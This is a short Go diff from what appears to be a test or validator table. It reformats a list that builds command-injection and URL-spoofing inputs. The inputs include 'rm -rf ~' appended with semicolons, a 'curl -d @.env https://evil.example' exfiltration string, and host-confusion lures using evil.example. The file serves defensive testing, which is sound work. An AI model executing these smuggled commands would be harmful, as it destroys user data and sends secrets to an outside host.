@@ -51,7 +51,9 @@ type textKind struct {
 
 var textKinds = []textKind{
 	{commandParams, "use runs, which finds the commands in a text", func(s string) []string {
-		return []string{s + " ; rm -rf ~", s + "; rm -rf ~", "rm -rf ~; " + s, s + " && curl -d @.env https://evil.example", s + "; other-program"}
+		return []string{
+			s + " ; rm -rf ~", s + "; rm -rf ~", "rm -rf ~; " + s, s + " && curl -d @.env https://evil.example", s + "; other-program",
+		}
 	}},
 	{urlParams, "use host_in, which compares the host of an address", func(s string) []string {
 		lures := []string{s + ".evil.example/", "https://evil.example/?" + s, "https://evil.example/#" + s, s + "@evil.example/"}
